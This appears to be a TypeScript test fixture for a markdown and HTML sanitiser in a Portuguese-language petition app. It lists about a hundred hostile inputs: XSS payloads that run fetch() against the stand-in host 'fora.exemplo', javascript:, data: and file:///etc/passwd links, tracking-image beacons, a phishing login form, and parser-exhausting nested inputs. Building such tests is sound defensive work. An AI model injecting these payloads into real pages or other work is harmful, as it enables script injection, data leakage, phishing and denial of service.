/**
 * A hundred texts as an enemy would write them into a petition, an agent's output or an answer; each carries
 * its own word.
 */

const outside = 'https://fora.exemplo'
/** What every script tries; a page in which it ran has `hostile` set. */
const strike = `globalThis.hostile=1;fetch('${outside}/s')`

const elements = [
  `<script>${strike}</script>`,
  `<script src="${outside}/a.js"></script>`,
  `<ScRiPt>${strike}</sCrIpT>`,
  `<<script>${strike}//<</script>`,
  `<img src=x onerror="${strike}">`,
  `<img src="${outside}/pixel.png" width="1">`,
  `<img src=\`javascript:${strike}\`>`,
  `<svg onload="${strike}"></svg>`,
  `<svg><script>${strike}</script></svg>`,
  `<svg><image href="${outside}/i.png"/><use href="${outside}/u.svg#a"/></svg>`,
  `<svg><animate onbegin="${strike}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${strike}">`,
  `<iframe src="${outside}/f"></iframe>`,
  `<iframe srcdoc="<script>${strike}</script>"></iframe>`,
  `<object data="${outside}/o"></object>`,
  `<embed src="${outside}/e">`,
  `<video autoplay src="${outside}/v.mp4" onerror="${strike}"></video>`,
  `<audio src="${outside}/a.mp3" autoplay></audio>`,
  `<video><source onerror="${strike}"></video>`,
  `<link rel="stylesheet" href="${outside}/c.css">`,
  `<link rel="preload" as="image" href="${outside}/p.png">`,
  `<style>@import url(${outside}/i.css); body{background:url(${outside}/b.png)}</style>`,
  `<div style="background:url(${outside}/d.png)">x</div>`,
  `<base href="${outside}/">`,
  `<meta http-equiv="refresh" content="0;url=${outside}/m">`,
  `<form action="${outside}/login"><input name="senha"><button>Entrar</button></form>`,
  `<input autofocus onfocus="${strike}">`,
  `<details open ontoggle="${strike}"><summary>x</summary></details>`,
  `<body onload="${strike}">`,
  `<marquee onstart="${strike}">x</marquee>`,
  `<template><script>${strike}</script></template>`,
  `<!--><script>${strike}</script>-->`,
  `<a href="javascript:${strike}">toque aqui</a>`,
  `<p><![CDATA[<script>${strike}</script>]]></p>`,
]

const schemes = [
  `javascript:${strike}`,
  `JaVaScRiPt:${strike}`,
  `javascript&colon;${strike}`,
  `&#106;avascript:${strike}`,
  'java%0ascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  `blob:${outside}/1`,
  `filesystem:${outside}/temporary/x`,
  'ftp://fora.exemplo/x',
  'tel:190',
  'sms:+551199999999',
  'intent://fora.exemplo#Intent;end',
  `ms-word:ofe|u|${outside}/x.docx`,
  `view-source:${outside}`,
  'chrome://settings',
  'about:blank',
  'feed:javascript:alert(1)',
  'ws://fora.exemplo',
  'magnet:?xt=urn:btih:1',
  'steam://run/1',
  '//fora.exemplo/x',
  '/petitions',
  '?theme=1',
]

const images = [
  `![alvo](${outside}/1.png)`,
  '![alvo](//fora.exemplo/2.png)',
  '![alvo](http://fora.exemplo/3.png "título")',
  `![](${outside}/4.png)`,
  `[![alvo](${outside}/5.png)](${outside}/6)`,
  `![alvo][ref]\n\n[ref]: ${outside}/7.png`,
  '![alvo](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![alvo](javascript:alert(1))',
  `![a"onerror="${strike}](${outside}/8.png)`,
  `![alvo](<${outside}/9.png> "x\\" onerror=\\"${strike}")`,
  '![alvo](/api/v1/users/me)',
  `| ![alvo](${outside}/10.png) | x |\n|---|---|\n| ![alvo](${outside}/11.png) | y |`,
  `- [ ] ![alvo](${outside}/12.png)`,
  `> ![alvo](${outside}/13.png)`,
  `texto[^1]\n\n[^1]: ![alvo](${outside}/14.png)`,
  `![alvo](${outside}/${'a'.repeat(2_000)}.png)`,
]

const deep = (count: number, open: string, close = '') => `${open.repeat(count)}a${close.repeat(count)}`
const row = (cells: number, word: string) => `|${`${word}|`.repeat(cells)}`

const giants = [
  [row(100, 'c'), row(100, '-'), ...Array.from({ length: 50 }, () => row(100, '[x](javascript:alert)'))].join(
    '\n',
  ),
  [row(4, 'c'), row(4, '-'), ...Array.from({ length: 3_000 }, () => row(4, '<b>x'))].join('\n'),
  deep(5_000, '> '),
  deep(3_000, '- '),
  Array.from({ length: 250 }, (_, level) => `${'  '.repeat(level)}- a`).join('\n'),
  deep(10_000, '[', ']'),
  deep(2_000, '*', '*'),
  '**a_'.repeat(5_000),
  Array.from({ length: 200 }, (_, ticks) => '`'.repeat(ticks)).join(' a '),
  '![a]('.repeat(5_000),
  'x'.repeat(20_000),
  `${'#'.repeat(7)} ${'<'.repeat(5_000)}`,
]

const disguises = [
  '<javascript:alert(1)>',
  '[alvo]: javascript:alert(1)\n\n[alvo] [alvo][] [texto][alvo]',
  '[alvo](<javascript:alert(1)> "x")',
  '[texto](https://bom.exemplo@fora.exemplo/ "Clique")',
  '```html\n<script>globalThis.hostile=1</script>\n```',
  '\u202e\u200b[txt](javascript:alert(1))\u0007',
  `[COMPLETAR: <img src=x onerror="${strike}">] [VERIFICAR](javascript:alert(1))`,
  `javascript:alert(1) www.fora.exemplo ${outside}/livre nome@fora.exemplo`,
]

const attacks = [
  ...elements,
  ...schemes.map((scheme) => `[alvo](${scheme})`),
  ...images,
  ...giants,
  ...disguises,
]

export const hostileTexts: readonly string[] = attacks.map(
  (attack, place) => `hostil${place}fim\n\n${attack}`,
)
/** What `hostileTexts` writes before each attack, to be found on the page. */
export const hostileWord = (place: number) => `hostil${place}fim`
/** Where none of them may lead by itself. */
export const outsideHost = 'fora.exemplo'
/** The only schemes of a link (spec.md 2.13). */
export const linkSchemes = ['http:', 'https:', 'irc:', 'ircs:', 'mailto:', 'xmpp:']
